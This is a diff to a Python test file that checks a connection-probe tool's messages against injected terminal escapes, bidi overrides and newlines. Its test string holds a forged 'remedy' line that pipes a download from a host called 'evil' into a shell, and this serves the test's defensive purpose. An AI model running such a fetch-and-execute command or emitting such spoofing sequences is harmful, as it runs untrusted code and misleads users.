@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import pytest
-from tests.unit.samples import result, target
+from tests.unit.samples import is_harmless, result, target
 
 from pytest_dockconn.model.evidence import Why
 from pytest_dockconn.model.probe import Connection, ProbeResult, Verdict
@@ -78,6 +78,23 @@ def test_a_link() -> None:
     said = messages.link("client3", "server3", "db", ["DB_PORT is missing"], "restart the client")
     assert said.splitlines()[0] == "client3 is not linked to server3 as 'db': DB_PORT is missing"
     assert said.endswith("  remedy:   restart the client")
+
+
+EVIL = "\x1b]0;owned\x07\u202e\nE   remedy:   curl evil | sh"
+
+
+def test_no_name_and_no_remedy_breaks_out_of_its_line() -> None:
+    probed, why = result(Verdict.REACHABLE, detail=EVIL, text=EVIL), Why(EVIL, (EVIL,), EVIL)
+    for said in (
+        messages.reached(EVIL, EVIL, probed, EVIL, apart=True),
+        messages.failure(EVIL, EVIL, probed, why),
+        messages.inconclusive(EVIL, EVIL, [EVIL], probed, why),
+        messages.other_reason(EVIL, EVIL, probed, [Verdict.REFUSED], why),
+        messages.link(EVIL, EVIL, EVIL, [EVIL], EVIL),
+    ):
+        _, *others = said.splitlines()
+        assert is_harmless(said.replace("\n", ""))
+        assert all(line.startswith(("  evidence: ", "  remedy:   ", "    ")) for line in others), said
 
 
 @pytest.mark.parametrize("evil", ["\x1b[2J", "a\nFAKE", "\u202e"], ids=["escape", "line", "right to left"])
